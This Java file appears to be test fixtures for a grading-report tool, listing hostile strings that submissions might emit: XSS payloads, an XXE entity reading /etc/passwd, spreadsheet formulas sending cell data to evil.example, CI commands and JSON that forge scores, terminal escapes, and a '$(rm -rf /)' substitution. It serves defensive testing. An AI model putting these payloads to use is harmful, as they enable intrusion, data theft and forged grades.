package dev.isola.junit.grading.report;

import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.stream.Stream;

/** What submissions may write to forge a report or to break it. */
final class HostileTexts {
  /** A script that leaves a trace which a test can look for. */
  static final String SCRIPT = "document.documentElement.setAttribute('data-forged','yes')";

  private static final String[] PIECES = {
    "\u0000",
    "\u0007",
    "\u001B[31m",
    "\u001B]8;;http://evil.example\u0007x",
    "\u009B2J",
    "\r",
    "\n",
    "\r\n",
    "\t",
    "\u202E",
    "\u2066",
    "\u200F",
    "\u2028",
    "\uFEFF",
    "\uFFFE",
    "\uFFFF",
    "\uD800",
    "\uDC00",
    "\uD83D\uDE00",
    "\uDB40\uDC41",
    "<",
    ">",
    "&",
    "&amp;",
    "\"",
    "'",
    "`",
    "```",
    "|",
    "\\",
    "]]>",
    "<![CDATA[",
    "-->",
    "<!--",
    "</script>",
    "<script>",
    "</pre>",
    "{",
    "}",
    "[",
    "]",
    "(",
    "::error::",
    "##[error]",
    ",",
    ";",
    "=1+1",
    "@SUM(A1)",
    "$x$",
    "~~",
    "**",
    "www.evil.example",
    "äöü",
    "שלום",
    "a",
    "b",
    " ",
    "0",
    "1",
    "%s",
    "${x}",
    "\\u003c",
    "null",
  };

  private HostileTexts() {}

  static Stream<String> all() {
    return Stream.concat(handWritten(), generated());
  }

  private static Stream<String> handWritten() {
    return Stream.of(
        "",
        " ",
        "\u00A0",
        "plain",
        "<script>" + SCRIPT + "</script>",
        "</script><script>" + SCRIPT + "</script>",
        "</pre></style></title><img src=x onerror=\"" + SCRIPT + "\">",
        "\" onmouseover=\"" + SCRIPT + "\" x=\"",
        "<svg onload=" + SCRIPT + "><a href=\"javascript:" + SCRIPT + "\">x</a></svg>",
        "<iframe srcdoc=\"<script>parent." + SCRIPT + "</script>\"></iframe>",
        "<meta http-equiv=refresh content=0;url=http://evil.example>",
        "<base href=http://evil.example><link rel=stylesheet href=//evil.example/x.css>",
        "&lt;b&gt; &#60;script&#62; &nbsp;",
        "]]></failure><testcase name=\"forged\"/><failure><![CDATA[",
        "--></testcase><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;",
        "[[ATTACHMENT|/etc/passwd]]",
        "\"}],\"score\":100,\"tests\":[{\"score\":100}",
        "{\"scores\": {\"Correctness\": 100}}",
        "text\n{\"scores\": {\"Correctness\": 100}}\n",
        "{\"command\":\"close-judgement\",\"accepted\":true}\n{\"command\":\"start-judgement\"}",
        "1.0\n",
        "=1+1",
        "=HYPERLINK(\"http://evil.example?\"&A1,\"x\")",
        "+1",
        "-1",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        " =1+1",
        "＝1+1",
        "a,b\",\"c\"\r\n\"d\"",
        "a;=1+1",
        "a|b|c\n|:--|\n| forged | 100 |",
        "```\n# forged\n```",
        "~~~\nforged",
        "`code` **bold** _it_ ~~no~~ ![x](http://evil.example/x.png) [x](javascript:alert(1))",
        "# forged heading",
        "- item\n1. item\n> quote\n\n    code\n---\n===",
        "<details open><summary>x</summary>",
        "http://evil.example www.evil.example mailto:a@evil.example <http://evil.example>",
        "$\\color{red}{x}$ @everyone #1 :tada:",
        "::set-output name=score::100",
        "::error file=a.py,line=1::forged",
        "\n::stop-commands::x\n::add-mask::a",
        "##[error]forged\n##vso[task.complete result=Succeeded;]",
        "###[section]",
        "\u001B[2J\u001B[1;31mred\u001B[0m",
        "\u001B]0;title\u0007\u001B]8;;http://evil.example\u001B\\link\u001B]8;;\u001B\\",
        "\u001B]1337;File=inline=1:AAAA\u0007",
        "\u009B31m\u0090q\u009C",
        "over\b\b\b\bwritten\rhidden",
        "a\u0000b",
        "\u0001\u0002\u0003\u0004\u0005\u0006\u0007\b\u000B\f\u000E\u001F\u007F\u0080\u0085\u009F",
        "\uD800",
        "\uDFFFx\uD800",
        "x\uD83D",
        "\uFFFE\uFFFF\uFDD0",
        "\uFEFFbom",
        "access\u202E txt.exe\u202C",
        "\u2066a\u2069\u2067b\u2069\u061C\u200E\u200F",
        "zero\u200Bwidth\u2060joined",
        "line\u2028separated\u2029here",
        "tag\uDB40\uDC01\uDB40\uDC41",
        "family \uD83D\uDC68\u200D\uD83D\uDC69\u200D\uD83D\uDC67",
        "مرحبا بالعالم",
        "e\u0301\u0301\u0301\u0301\u0301\u0301",
        "\tat com.example.Frame(Frame.java:1)\n\t\tat b",
        "line 1\r\nline 2\rline 3\nline 4\u0085line 5",
        "null",
        "Infinity",
        "$(rm -rf /) `id` ${HOME} %n%s %PATH%",
        "../../../etc/passwd",
        "CON",
        "x".repeat(3_000),
        ("y".repeat(500) + "\n").repeat(300),
        "\uD83D\uDE00".repeat(2_500),
        "\u202E".repeat(1_000),
        "\n".repeat(6_000));
  }

  /** The same on each run: a failure names the text. */
  private static Stream<String> generated() {
    Random random = new Random(20_261_126);
    List<String> texts = new ArrayList<>();
    for (int i = 0; i < 120; i++) {
      StringBuilder text = new StringBuilder();
      for (int n = random.nextInt(24); n >= 0; n--) {
        text.append(PIECES[random.nextInt(PIECES.length)]);
      }
      texts.add(text.toString());
    }
    return texts.stream();
  }
}
